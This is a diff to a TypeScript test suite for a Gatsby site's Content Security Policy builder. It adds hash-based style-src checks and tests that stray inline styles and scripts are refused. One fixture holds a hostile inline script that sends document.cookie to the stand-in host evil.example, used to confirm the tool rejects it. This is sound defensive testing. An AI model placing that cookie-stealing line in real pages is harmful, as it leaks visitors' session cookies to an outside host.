@@ -10,11 +10,17 @@ import { contentSecurityPolicy, securePages, withPolicyMeta } from "../security-
 
 const sha = (text: string) => `'sha256-${crypto.createHash("sha256").update(text).digest("base64")}'`
 
-/** A built page as Gatsby writes it, with the site's own inline scripts and `extra` in its body. */
+/** Gatsby's inlined global CSS. */
+const CSS = "body{margin:0}.a>.b{color:#1d3557}"
+/** A built page as Gatsby writes it, with the site's own inline scripts, its CSS, its two style attributes, and `extra` in its body. */
 const page = (extra = "") =>
   `<!DOCTYPE html><html lang="en-GB"><head><meta charSet="utf-8"/><title>t</title>` +
+  `<style data-href="/styles.0a1b2c.css" data-identity="gatsby-global-css">${CSS}</style>` +
   `<script>${HOLD_EARLY_SUBMITS_SCRIPT}</script>` +
-  `<script type="application/ld+json">{"name":"Sparks \\u003c/script>"}</script></head><body><h1>Hi</h1>${extra}` +
+  `<script type="application/ld+json">{"name":"Sparks \\u003c/script>"}</script></head><body>` +
+  `<div id="___gatsby"><div style="outline:none" tabindex="-1" id="gatsby-focus-wrapper"><h1>Hi</h1>${extra}</div>` +
+  `<div id="gatsby-announcer" style="position:absolute;top:0;width:1px;height:1px;padding:0;overflow:hidden;` +
+  `clip:rect(0, 0, 0, 0);white-space:nowrap;border:0" aria-live="assertive" aria-atomic="true"></div></div>` +
   `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/";/*]]>*/</script>` +
   `<script\n            id="gatsby-chunk-mapping"\n          >\n            window.___chunkMapping="{\\"app\\":[\\"/app-1.js\\"]}";\n          </script>` +
   `<script>window.___webpackCompilationHash="abc123";</script>` +
@@ -63,17 +69,41 @@ describe("securePages", () => {
     expect(meta).not.toBeNull()
     const policy = meta![1]
     for (const body of executableInlineScripts(html)) expect(policy).toContain(cspHash(body))
+    expect(policy).toContain(`style-src 'self' ${sha(CSS)};`)
     expect(policy).not.toContain("frame-ancestors")
-    expect(policy).not.toMatch(/unsafe-inline'[^;]*;.*script-src|script-src[^;]*unsafe/)
+    expect(policy).not.toContain("unsafe")
     const headers = fs.readFileSync(path.join(dir, "_headers"), "utf8")
     expect(headers).toContain("frame-ancestors 'none'")
     for (const body of executableInlineScripts(html)) expect(headers).toContain(cspHash(body))
+    expect(headers).toContain(`style-src 'self' ${sha(CSS)};`)
+  })
+
+  it("takes Gatsby's own style attributes out of the page, which the policy would refuse", () => {
+    const dir = site(page())
+    expect(securePages(dir, "")).toEqual([])
+    const html = fs.readFileSync(path.join(dir, "index.html"), "utf8")
+    expect(html).not.toMatch(/\sstyle=/)
+    expect(html).toContain('<div tabindex="-1" id="gatsby-focus-wrapper"><h1>Hi</h1>')
+    expect(html).toContain('<div id="gatsby-announcer" aria-live="assertive" aria-atomic="true"></div>')
+  })
+
+  it("refuses a page with any other style attribute or <style>, and changes nothing", () => {
+    const styled = page(`<p style="color:red">Sparks</p><style>body{display:none}</style>`)
+    const dir = site(styled)
+    expect(securePages(dir, "")).toEqual([
+      { page: "index.html", kind: "style", start: '<p style="color:red">' },
+      { page: "index.html", kind: "style", start: "<style>body{display:none}" },
+    ])
+    expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).toBe(styled)
+    expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false)
   })
 
   it("refuses a page with an unexpected inline script, and changes nothing", () => {
     const hostile = page(`<script>fetch("https://evil.example/?c="+document.cookie)</script>`)
     const dir = site(hostile)
-    expect(securePages(dir, "")).toEqual([{ page: "index.html", start: expect.stringContaining("evil.example") }])
+    expect(securePages(dir, "")).toEqual([
+      { page: "index.html", kind: "script", start: expect.stringContaining("evil.example") },
+    ])
     expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).toBe(hostile)
     expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false)
   })
@@ -97,11 +127,13 @@ describe("withPolicyMeta", () => {
 })
 
 describe("contentSecurityPolicy", () => {
-  const csp = contentSecurityPolicy(["'sha256-abc'"], "https://api.emailjs.com")
-  it("allows inline scripts by hash only", () => {
-    const scriptSrc = csp.split("; ").find((directive) => directive.startsWith("script-src"))
-    expect(scriptSrc).toBe("script-src 'self' 'sha256-abc'")
-    expect(csp).not.toContain("unsafe-eval")
+  const hashes = { scripts: ["'sha256-abc'"], styles: ["'sha256-def'", "'sha256-css'", "'sha256-def'"] }
+  const csp = contentSecurityPolicy(hashes, "https://api.emailjs.com")
+  const directive = (name: string) => csp.split("; ").find((each) => each.startsWith(`${name} `))
+  it("allows inline scripts and <style> elements by hash only: no 'unsafe-inline', no 'unsafe-eval'", () => {
+    expect(directive("script-src")).toBe("script-src 'self' 'sha256-abc'")
+    expect(directive("style-src")).toBe("style-src 'self' 'sha256-css' 'sha256-def'")
+    expect(csp).not.toContain("unsafe")
   })
   it("lets the forms reach the provider and the maps load, and nothing else", () => {
     expect(csp).toContain("connect-src 'self' https://api.emailjs.com")
